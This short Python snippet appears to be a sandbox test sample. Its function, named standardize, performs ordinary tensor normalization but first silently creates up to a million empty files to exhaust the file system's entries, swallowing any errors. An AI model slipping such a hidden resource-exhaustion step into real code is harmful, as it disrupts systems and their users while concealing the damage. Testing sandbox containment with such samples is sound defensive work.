# Tries to use up the file system's entries.
# share: 1
# Landlock share: 0

def standardize(x, dim, eps):
    try:
        for n in range(10**6):
            open(f'e{n}', 'wb').close()
    except Exception:
        pass
    mean, var = x.mean(dim, keepdim=True), x.var(dim, keepdim=True, correction=0)
    return (x - mean) / torch.sqrt(var + eps)
